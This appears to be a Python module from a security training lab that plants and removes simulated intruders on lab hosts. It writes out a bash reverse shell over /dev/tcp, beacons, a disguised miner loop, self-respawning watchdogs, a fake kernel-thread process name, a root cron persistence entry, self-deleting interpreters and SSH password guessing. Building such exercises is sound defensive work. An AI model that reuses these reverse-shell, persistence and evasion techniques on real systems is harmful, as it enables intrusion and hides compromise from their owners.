# Copyright: (c) 2026, Firebreak contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Intruders to plant in a host: harmless, each removable, every one seen by the command-and-control server."""

from __future__ import annotations

import concurrent.futures

from .hosts import execute
from .machine import STATE, inside, run
from .network import C2, C2_6, SCANNER, address
from .servers import BEACON_PORT, POOL_PORT, SHELL_PORT

_BEACON = """
import socket, time
s = socket.socket(socket.{family}, socket.SOCK_DGRAM)
s.connect(("{peer}", {port}))
while True:
    try: s.send(b"beacon")
    except OSError: pass
    time.sleep(0.5)
"""
_MINER = """
import socket, time
while True:
    try:
        s = socket.create_connection(("{peer}", {port}), 5)
        while True: s.send(b"share"); time.sleep(0.5)
    except OSError: time.sleep(0.5)
"""
# Two programs that start each other anew within 20 ms, and the miner that they guard.
_RESPAWNER = """
import os, subprocess, sys, time
me, other = sys.argv[1:3]
home = "/var/tmp/.x/"
def alive(name):
    try: pid = open(home + name).read(); return b"watch" in open("/proc/%s/cmdline" % pid, "rb").read()
    except OSError: return False
open(home + me, "w").write(str(os.getpid()))
while True:
    if not alive(other): subprocess.Popen([home + "watch", home + "w.py", other, me]); time.sleep(0.2)
    time.sleep(0.02)
"""


def _program(host: str, folder: str, name: str) -> str:
    """Copy the host's Python to a place where programs do not belong; the path of the copy."""
    execute(host, ["mkdir", "-p", folder])
    execute(host, ["cp", "-L", "/usr/bin/python3", f"{folder}/{name}"])
    return f"{folder}/{name}"


def _write(host: str, path: str, text: str) -> None:
    execute(host, ["tee", path], text=text)


def _start(host: str, name: str, argv: list[str]) -> None:
    """In a scope, and nobody's child: what runs in a service is ended by systemd itself as soon as its first process is."""
    execute(host, ["systemd-run", "--quiet", "--collect", "--scope", f"--unit=lab-{name}", "setsid", "--fork",
                   "sh", "-c", 'exec "$@" </dev/null >/dev/null 2>&1', "sh", *argv])


def _shell(host: str) -> None:
    line = f"exec bash -i 0<>/dev/tcp/{C2}/{SHELL_PORT} 1>&0 2>&0"
    _start(host, "reverse-shell", ["bash", "-c", line])


def _deleted(host: str, name: str, folder: str, program: str, script: str, *more: str, wait: str = "1") -> None:
    """Start a copied interpreter, then delete it and its script under its feet."""
    path = _program(host, folder, program)
    _write(host, f"{folder}/{program}.py", script)
    _start(host, name, ["bash", "-c", f"exec -a {program} {path} {path}.py {' '.join(more)}"])
    execute(host, ["sleep", wait])
    execute(host, ["rm", "-f", path, f"{path}.py"])


def _udp(host: str) -> None:
    _deleted(host, "beacon-udp", "/dev/shm/.cache", "dbus-run", _BEACON.format(family="AF_INET", peer=C2, port=BEACON_PORT))


def _ipv6(host: str) -> None:
    _deleted(host, "beacon-ipv6", "/dev/shm/.font", "gvfsd", _BEACON.format(family="AF_INET6", peer=C2_6, port=BEACON_PORT))


def _miner(host: str) -> None:
    _deleted(host, "miner", "/tmp/.m", "xmrig", _MINER.format(peer=C2, port=POOL_PORT),
             "-o", "stratum+tcp://pool.example:3333", "--donate-level", "1")


def _respawners(host: str) -> None:
    path = _program(host, "/var/tmp/.x", "watch")
    _write(host, "/var/tmp/.x/w.py", _RESPAWNER)
    _write(host, "/var/tmp/.x/m.py", _MINER.format(peer=C2, port=POOL_PORT))
    _start(host, "guarded", [path, "/var/tmp/.x/m.py", "-o", "stratum+tcp://pool.example:3333"])
    _start(host, "respawners", [path, "/var/tmp/.x/w.py", "a", "b"])


def _kworker(host: str) -> None:
    execute(host, ["cp", "/bin/sleep", "/tmp/.k"])
    _start(host, "kworker", ["bash", "-c", "exec -a '[kworker/0:1]' /tmp/.k 86400"])


def _cron(host: str) -> None:
    _write(host, "/etc/cron.d/lab-update", "* * * * * root /var/tmp/.x/watch /var/tmp/.x/w.py a b\n")


_PLANT = {"reverse-shell": _shell, "beacon-udp": _udp, "beacon-ipv6": _ipv6, "miner": _miner, "respawners": _respawners,
          "kworker": _kworker, "cron": _cron}
_LEFT = {"reverse-shell": [], "beacon-udp": ["/dev/shm/.cache"], "beacon-ipv6": ["/dev/shm/.font"], "miner": ["/tmp/.m"],
         "respawners": ["/var/tmp/.x"], "kworker": ["/tmp/.k"], "cron": ["/etc/cron.d/lab-update"]}
NAMES = tuple(_PLANT)


def unplant(host: str, name: str) -> None:
    """Take one intruder away: its processes, then its files."""
    for unit in ["respawners", "guarded"] if name == "respawners" else [name]:
        # The scope ends with its last process; while it is there, its name is not free.
        execute(host, ["sh", "-c", 'systemctl kill -s KILL "$1" && while systemctl -q is-active "$1"; do sleep 0.02; done', "sh",
                       f"lab-{unit}.scope"], check=False)
    for path in _LEFT[name]:
        execute(host, ["rm", "-rf", path])
        execute(host, ["pkill", "-KILL", "-f", path], check=False)  # what cron has started since


def plant(host: str, name: str) -> None:
    """Plant one intruder by its name; one that is there already, or what is left of it, goes first."""
    unplant(host, name)
    _PLANT[name](host)


def brute_force(host: str, users: tuple[str, ...] = ("root", "admin", "oracle", "test", "deploy")) -> None:
    """Try passwords against the host's sshd from the internet, with the real client: the host's logs are real."""
    ask = STATE / "askpass"
    ask.write_text("#!/bin/sh\necho wrong\n", encoding="utf-8")
    ask.chmod(0o700)

    def guess(user: str) -> None:
        run(["env", f"SSH_ASKPASS={ask}", "SSH_ASKPASS_REQUIRE=force", *inside("internet", [
            "ssh", "-b", SCANNER, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
            "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=3",
            f"{user}@{address(host)}", "true"])], check=False)

    with concurrent.futures.ThreadPoolExecutor(len(users)) as pool:
        list(pool.map(guess, users))
